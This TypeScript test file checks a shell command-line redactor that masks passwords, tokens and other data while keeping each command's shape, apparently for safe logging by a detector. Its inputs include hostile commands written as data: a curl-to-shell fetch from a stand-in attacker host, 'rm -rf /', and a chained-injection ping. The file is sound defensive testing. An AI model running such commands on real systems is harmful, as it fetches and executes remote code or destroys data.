import t from 'tap';
import { redactCommandLine } from '../../../src/detect/shell';

t.test('keeps the shape, drops the data', async (t) => {
  t.equal(redactCommandLine('ls -la /tmp'), 'ls -la /tmp', 'short plain arguments stay');
  t.equal(redactCommandLine("grep -r 'secret value' ."), "grep -r '?' .");
  t.equal(redactCommandLine('echo "hello world"'), 'echo "?"');
  t.equal(redactCommandLine("echo $'a\\nb'"), "echo $'?'");
  t.equal(redactCommandLine('mysql --password=hunter2 -e x'), 'mysql --password=? -e x', 'option values go');
  t.equal(redactCommandLine('curl https://example.com/a/very/long/path?token=abc'), 'curl ?', 'long arguments go');
  t.equal(redactCommandLine('x; rm -rf / # cleanup'), 'x; rm -rf / #?', 'operators stay, comments go');
  t.equal(redactCommandLine('a  \t b'), 'a b', 'blanks are normalised');
});

t.test('substitutions are redacted inside, so an attack stays visible', async (t) => {
  t.equal(redactCommandLine('echo "name: $(curl http://evil.example/payloads/x.sh | sh)"'), 'echo "?$(curl ? | sh)"');
  t.equal(redactCommandLine('echo `id` ${IFS} $((1+2)) <(ls)'), 'echo `id` ${IFS} $((?)) <(ls)');
  t.equal(redactCommandLine('echo "$HOME/x"'), 'echo "$HOME?"');
});

t.test('here-documents and odd input', async (t) => {
  t.equal(redactCommandLine('cat <<EOF >f\ntop secret\nEOF\nls'), 'cat <<EOF >f\n?\nls');
  t.equal(redactCommandLine("echo 'unterminated secret"), "echo '?'");
  t.equal(redactCommandLine(''), '');
  t.equal(redactCommandLine(42 as unknown as string), '', 'non-strings give an empty string');
  const big = 'echo ' + 'a '.repeat(5000);
  t.ok(redactCommandLine(big).length <= 2049, 'output is capped');
});

t.test('credentials go however short: passwords, env assignments, curl users and headers, URL userinfo', async (t) => {
  const cases: [string, string][] = [
    ['mysql -uroot -phunter2 -h db shop', 'mysql -uroot -p? -h db shop'],
    ['/usr/bin/mysqldump -phunter2 shop', '/usr/bin/mysqldump -p? shop'],
    ['sudo mariadb -phunter2', 'sudo mariadb -p?'],
    ['sshpass -p hunter2 ssh host', 'sshpass -p ? ssh host'],
    ['mysqldump --password=hunter2 shop', 'mysqldump --password=? shop'],
    ['tool --db-password hunter2 --verbose', 'tool --db-password ? --verbose'],
    ['PGPASSWORD=hunter2 psql -h db', 'PGPASSWORD=? psql -h db'],
    ['env PGPASSWORD=hunter2 MYSQL_PWD=s3 psql', 'env PGPASSWORD=? MYSQL_PWD=? psql'],
    ['export GITHUB_TOKEN=hunter2', 'export GITHUB_TOKEN=?'],
    ['curl -u admin:hunter2 http://x/', 'curl -u ? http://x/'],
    ['curl -uadmin:hunter2 http://x/', 'curl -u? http://x/'],
    ["curl -H 'Authorization: Bearer hunter2' http://x/", 'curl -H ? http://x/'],
    ['curl -H Authorization:hunter2 http://x/', 'curl -H ? http://x/'],
    ['curl -b sid=hunter2 http://x/', 'curl -b ? http://x/'],
    ['curl http://a:hunter2@h/', 'curl http://?@h/'],
    ['git clone https://u:hunter2@git.example/x', 'git clone https://?@git.example/x'],
    ['curl http://h/?k=hunter2', 'curl http://h/?…'],
  ];
  for (const [cmd, want] of cases) {
    const got = redactCommandLine(cmd);
    t.equal(got, want, cmd);
    t.notMatch(got, /hunter2|admin:|s3\b/, `${cmd}: no credential`);
  }
});

t.test('options and programs that carry no credential are kept', async (t) => {
  t.equal(redactCommandLine('ssh -p 22 host'), 'ssh -p 22 host', "-p is a port outside mysql's tools");
  t.equal(redactCommandLine('ping -c 1 127.0.0.1; rm -rf /'), 'ping -c 1 127.0.0.1; rm -rf /');
  t.equal(redactCommandLine('mysql -h db; ls -phunter'), 'mysql -h db; ls -phunter', 'the program is per command');
  t.equal(redactCommandLine('curl -H "$AUTH" http://x/'), 'curl -H "$AUTH" http://x/', 'a variable name is shown, not its value');
});
